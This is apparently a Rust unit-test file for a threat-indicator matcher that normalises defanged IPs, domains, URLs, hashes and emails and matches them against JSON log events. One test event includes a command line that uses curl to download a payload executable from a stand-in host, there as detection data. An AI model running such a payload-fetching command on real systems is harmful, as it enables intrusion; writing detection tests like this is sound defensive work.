use super::*;

fn found(set: &IndicatorSet, json: &str) -> Vec<u32> {
    let e = Event::from_json_str(json).expect("event");
    let mut out = vec![];
    set.match_event(&e, &mut out);
    out
}

#[test]
fn values_are_normalized_or_refused_with_a_reason() {
    assert_eq!(normalize(Kind::Ipv4, "10.1.2.3/8").unwrap(), "10.0.0.0/8");
    assert_eq!(normalize(Kind::Ipv4, "10.1.2.3/32").unwrap(), "10.1.2.3");
    assert_eq!(normalize(Kind::Ipv6, "2001:DB8::1/32").unwrap(), "2001:db8::/32");
    assert!(normalize(Kind::Ipv4, "2001:db8::1").unwrap_err().contains("IPv4"));
    assert!(normalize(Kind::Ipv4, "10.0.0.0/33").is_err());
    assert_eq!(normalize(Kind::Domain, "Evil[.]Example.COM.").unwrap(), "evil.example.com");
    assert!(normalize(Kind::Domain, "1.2.3.4").is_err());
    assert!(normalize(Kind::Domain, "no_dots").is_err());
    assert_eq!(normalize(Kind::Url, "hxxp://Evil.example/").unwrap(), "http://evil.example");
    assert!(normalize(Kind::Url, "evil.example/x").is_err());
    assert!(normalize(Kind::Md5, "abc").unwrap_err().contains("MD5"));
    assert_eq!(normalize(Kind::Sha1, &"A".repeat(40)).unwrap(), "a".repeat(40));
    assert_eq!(normalize(Kind::Email, "Bob[@]evil.example").unwrap(), "bob@evil.example");
    assert!(normalize(Kind::Email, "bob@").is_err());
}

#[test]
fn free_text_is_classified() {
    assert_eq!(classify("203.0.113.7"), Some((Kind::Ipv4, "203.0.113.7".into())));
    assert_eq!(classify("198.51.100.0/24"), Some((Kind::Ipv4, "198.51.100.0/24".into())));
    assert_eq!(classify("evil[.]example"), Some((Kind::Domain, "evil.example".into())));
    assert_eq!(classify(&"f".repeat(64)).map(|k| k.0), Some(Kind::Sha256));
    assert_eq!(classify("hxxps://evil.example/a").map(|k| k.0), Some(Kind::Url));
    assert_eq!(classify("x@evil.example").map(|k| k.0), Some(Kind::Email));
    assert_eq!(classify("hello"), None);
    assert_eq!(classify("1.2"), None);
}

#[test]
fn events_match_wherever_the_value_is() {
    let mut s = IndicatorSet::new();
    s.insert(Kind::Ipv4, "203.0.113.7", 1).unwrap();
    s.insert(Kind::Ipv4, "198.51.100.0/24", 2).unwrap();
    s.insert(Kind::Domain, "evil.example", 3).unwrap();
    s.insert(Kind::Sha256, &"ab".repeat(32), 4).unwrap();
    s.insert(Kind::Url, "http://bad.example/payload.exe", 5).unwrap();
    s.insert(Kind::Email, "ceo@phish.example", 6).unwrap();
    s.insert(Kind::Ipv6, "2001:db8:bad::/48", 7).unwrap();
    s.insert(Kind::Md5, &"cd".repeat(16), 8).unwrap();
    assert_eq!(found(&s, r#"{"destination":{"ip":"203.0.113.7"}}"#), [1]);
    assert_eq!(found(&s, r#"{"DestinationIp":"198.51.100.99"}"#), [2]);
    assert_eq!(found(&s, r#"{"dst":"198.51.100.99:443"}"#), [2]);
    assert_eq!(found(&s, r#"{"QueryName":"cdn.Evil.Example"}"#), [3]);
    assert_eq!(found(&s, r#"{"QueryName":"notevil.example"}"#), Vec::<u32>::new());
    let hashes = format!(r#"{{"Hashes":"MD5={},SHA256={}"}}"#, "CD".repeat(16), "AB".repeat(32));
    assert_eq!(found(&s, &hashes), [4, 8]);
    assert_eq!(found(&s, r#"{"CommandLine":"curl -o x HTTP://bad.example/payload.exe"}"#), [5]);
    assert_eq!(found(&s, r#"{"url":"https://www.evil.example/login?x=1"}"#), [3]);
    assert_eq!(found(&s, r#"{"from":"Mallory <ceo@phish.example>"}"#), [6]);
    assert_eq!(found(&s, r#"{"src":"2001:db8:bad:1::5"}"#), [7]);
    assert_eq!(found(&s, r#"{"msg":"connection from 203.0.113.8 to 10.0.0.1"}"#), Vec::<u32>::new());
    assert_eq!(found(&s, r#"{"a":"203.0.113.7","b":"203.0.113.7"}"#), [1], "each indicator once per event");
}

#[test]
fn an_empty_set_matches_nothing() {
    assert!(found(&IndicatorSet::new(), r#"{"ip":"203.0.113.7"}"#).is_empty());
}
